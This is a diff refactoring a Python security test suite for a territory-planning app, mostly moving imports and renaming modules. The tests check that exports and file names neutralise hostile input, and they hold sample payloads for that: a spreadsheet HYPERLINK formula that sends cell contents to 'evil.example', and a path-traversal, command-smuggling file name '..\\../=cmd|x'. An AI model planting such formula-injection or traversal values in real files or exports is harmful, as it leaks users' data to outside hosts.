@@ -11,16 +11,19 @@ from io import BytesIO
 import openpyxl
 import pandas as pd
 import pytest
-from conftest import ROOT
-from spaces import DELAWARE, KENT, RHODE_ISLAND, csv_of, data_set, start
 from streamlit.testing.v1 import AppTest
 
 from terr.edits import moves
 from terr.model.reps import Rep
 from terr.report.safe import is_formula
 from terr.view.text import markdown
-from terr.workspace import events, exports, imports, plans
-from terr.workspace.events import Seen
+from terr.workspace.accounts import dataset
+from terr.workspace.live import map_events
+from terr.workspace.live.map_events import WindowState
+from terr.workspace.plan import editing
+from terr.workspace.reports import downloads
+from tests.conftest import ROOT
+from tests.helpers.spaces import DELAWARE, KENT, RHODE_ISLAND, csv_of, data_set, start
 
 PAGES = ("accounts", "scores", "plan", "scenarios", "reps", "reports", "settings")
 FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
@@ -42,7 +45,7 @@ ADDRESSES = (
 @pytest.fixture
 def app_ws(open_app):
     """The workspace the app itself works on."""
-    from terr.ui import state
+    from terr.ui.session import state
 
     return state.workspace()
 
@@ -95,7 +98,7 @@ def test_crafted_values_of_the_map_change_nothing_and_break_nothing(ws, value):
     for event in value["events"] if isinstance(value, dict) else ():
         if isinstance(event, dict):
             event["p"] = sid
-    events.take(ws, sid, Seen(rev=rev, active=0), value)
+    map_events.apply_events(ws, sid, WindowState(rev=rev, active=0), value)
     after = ws.plan(sid)[0]
     if value is not HUGE[8]:  # a wrong memory of what stood there is told, not obeyed
         assert (after.assign == before.assign).all()
@@ -108,7 +111,7 @@ def test_a_value_for_one_plan_never_reaches_another(ws):
     rev = ws.store.rev(one)
     for p in (other, None, 0, [one], one.upper()):
         value = {"events": [{"s": "m", "n": 1, "p": p, "k": "paint", "units": [KENT], "to": 0}]}
-        events.take(ws, one, Seen(rev=rev, active=0), value)
+        map_events.apply_events(ws, one, WindowState(rev=rev, active=0), value)
     assert (ws.store.rev(one), ws.store.rev(other)) == (rev, rev)
 
 
@@ -124,7 +127,7 @@ def test_hostile_addresses_are_one_line(open_app, app_ws, address):
 
 def test_messages_and_notices_are_shown_as_text(open_app, app_ws):
     sid = start(app_ws).id
-    plans.edit(app_ws, sid, 0, lambda p, _: moves.rename(p, 0, IMAGE), strict=False)
+    editing.edit(app_ws, sid, 0, lambda p, _: moves.rename(p, 0, IMAGE), strict=False)
     window = open_app("plan", scenario=sid)
     window.button(key="manage").click().run()
     window.button(key="man_lock").click().run()
@@ -133,21 +136,21 @@ def test_messages_and_notices_are_shown_as_text(open_app, app_ws):
     assert not any("![x](" in t for t in said)
 
 
-@pytest.mark.parametrize("kind", exports.KINDS)
+@pytest.mark.parametrize("kind", downloads.KINDS)
 def test_no_export_holds_a_live_formula(ws, kind):
     rows = [(FORMULA.replace('"', "").replace(",", ";"), c, s, v) for _, c, s, v in DELAWARE[:4]]
-    raw, columns = imports.inspect(csv_of(rows, "=Revenue"), "=cmd.csv")
-    columns = imports.with_column(columns, {"=Revenue": "=Revenue"})
-    data = imports.save(ws, csv_of(rows, "=Revenue"), imports.intake(raw, columns), reps=[Rep("=1+1", "@SUM(A1)", "")])
+    raw, columns = dataset.inspect(csv_of(rows, "=Revenue"), "=cmd.csv")
+    columns = dataset.with_column(columns, {"=Revenue": "=Revenue"})
+    data = dataset.save(ws, csv_of(rows, "=Revenue"), dataset.intake(raw, columns), reps=[Rep("=1+1", "@SUM(A1)", "")])
     sid = start(ws, data=data, measure="=Revenue").id
-    plans.edit(ws, sid, 0, lambda p, _: moves.rename(p, 0, FORMULA), strict=False)
-    plans.edit(ws, sid, 0, lambda p, _: moves.set_rep(p, 0, "=1+1"), strict=False)
-    plans.paint(ws, sid, [KENT], 0)
+    editing.edit(ws, sid, 0, lambda p, _: moves.rename(p, 0, FORMULA), strict=False)
+    editing.edit(ws, sid, 0, lambda p, _: moves.set_rep(p, 0, "=1+1"), strict=False)
+    editing.paint(ws, sid, [KENT], 0)
     ws.store.rename(sid, "..\\../=cmd|x")
-    name = exports.file_name(ws.store.scenario(sid).name, kind)
+    name = downloads.file_name(ws.store.scenario(sid).name, kind)
     assert name[0].isalnum()
     assert not set(name) & set('/\\=|:\r\n"')
-    content = exports.export(ws, sid, kind).data
+    content = downloads.export(ws, sid, kind).data
     if kind.endswith("xlsx"):
         book = openpyxl.load_workbook(BytesIO(content))
         cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
@@ -270,14 +273,19 @@ def test_the_log_never_holds_what_accounts_say(open_app, app_ws, tmp_path, caplo
 def test_two_processes_on_one_folder_see_each_other_and_lose_nothing(ws):
     sid = start(ws).id
     code = (
-        "import sys; from pathlib import Path; from terr.workspace import Workspace, plans\n"
+        "import sys; from pathlib import Path; from terr.workspace import Workspace\n"
+        "from terr.workspace.plan import editing\n"
         "ws = Workspace(Path(sys.argv[1])); ws.plan(sys.argv[2]); print('up', flush=True)\n"
-        "for i in range(20): sys.stdin.readline(); print(plans.paint(ws, sys.argv[2], [1], -(i % 2)).rev, flush=True)\n"
+        "for i in range(20):\n"
+        "    sys.stdin.readline(); print(editing.paint(ws, sys.argv[2], [1], -(i % 2)).rev, flush=True)\n"
     )
     with subprocess.Popen(
-        [sys.executable, "-c", code, str(ws.root), sid], cwd=ROOT, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
+        [sys.executable, "-c", code, str(ws.root), sid],
+        cwd=ROOT,
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
         text=True,
-    ) as other:  # fmt: skip
+    ) as other:
         assert other.stdin is not None
         assert other.stdout is not None
         assert other.stdout.readline() == "up\n"
@@ -285,7 +293,7 @@ def test_two_processes_on_one_folder_see_each_other_and_lose_nothing(ws):
         for i in range(20):
             other.stdin.write("go\n")
             other.stdin.flush()
-            mine = plans.paint(ws, sid, [0], -(i % 2)).rev
+            mine = editing.paint(ws, sid, [0], -(i % 2)).rev
             theirs = int(other.stdout.readline())
             assert mine != theirs
             rev += 2
